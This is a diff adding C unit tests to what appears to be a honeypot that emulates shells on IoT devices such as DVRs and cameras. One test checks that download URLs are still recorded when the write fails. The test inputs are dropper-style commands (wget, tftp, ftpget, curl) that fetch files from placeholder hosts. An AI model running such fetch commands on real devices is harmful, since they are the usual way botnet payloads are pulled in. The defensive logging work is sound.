@@ -486,6 +486,52 @@ static void shparse_limits(void **state)
     sh_tree_free(&t);
 }
 
+/* A URL is a fact the moment a downloader is asked for it: a destination the
+ * device cannot write (a read-only mount, a missing directory) must not hide it. */
+static void shell_readonly_downloads(void **state)
+{
+    (void)state;
+    struct fixture *f = fx_new("dvr-armv7");
+    RUN(f, "cd /; wget -q http://198.18.0.4/x",
+        "wget: can't open 'x': Read-only file system\n");
+    assert_string_equal(f->rec.url, "http://198.18.0.4/x");
+    assert_string_equal(f->rec.host, "198.18.0.4");
+    assert_string_equal(f->rec.dest, "/x");
+    RUN(f, "cd /tmp; wget -q http://198.18.0.5/y -O /etc/y",
+        "wget: can't open '/etc/y': Read-only file system\n");
+    assert_string_equal(f->rec.url, "http://198.18.0.5/y");
+    assert_string_equal(f->rec.dest, "/etc/y");
+    RUN(f, "cd /; tftp -g -r f 198.18.0.6", "tftp: can't open 'f': Read-only file system\n");
+    assert_string_equal(f->rec.url, "tftp://198.18.0.6/f");
+    assert_string_equal(f->rec.dest, "/f");
+    RUN(f, "ftpget 198.18.0.7 /nodir/g g",
+        "ftpget: can't open '/nodir/g': No such file or directory\n");
+    assert_string_equal(f->rec.url, "ftp://198.18.0.7/g");
+    assert_int_equal(f->rec.downloads, 4);
+    fx_free(f);
+    f = fx_new("camera-arm");
+    RUN(f, "cd /; curl -s -O http://198.18.0.8/z; echo $?",
+        "curl: can't open 'z': Read-only file system\n23\n");
+    assert_string_equal(f->rec.url, "http://198.18.0.8/z");
+    assert_int_equal(f->rec.downloads, 1);
+    fx_free(f);
+}
+
+/* Lists that end up empty are never handed to qsort as NULL (UBSan: nonnull). */
+static void persona_empty_lists(void **state)
+{
+    (void)state;
+    static const char *const bad[] = {
+        "file relative: x\n",
+        "name: x\nfile relative: <<END\nabc\nEND\n",
+    };
+    for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
+        struct persona *p = persona_parse(bad[i], strlen(bad[i]), "t.persona");
+        assert_null(p);
+        assert_non_null(strstr(err_msg(), "file path must be absolute"));
+    }
+}
+
 int main(void)
 {
     const struct CMUnitTest tests[] = {
@@ -500,6 +546,8 @@ int main(void)
         cmocka_unit_test(shell_syntax),
         cmocka_unit_test(shell_personas),
         cmocka_unit_test(shparse_limits),
+        cmocka_unit_test(shell_readonly_downloads),
+        cmocka_unit_test(persona_empty_lists),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
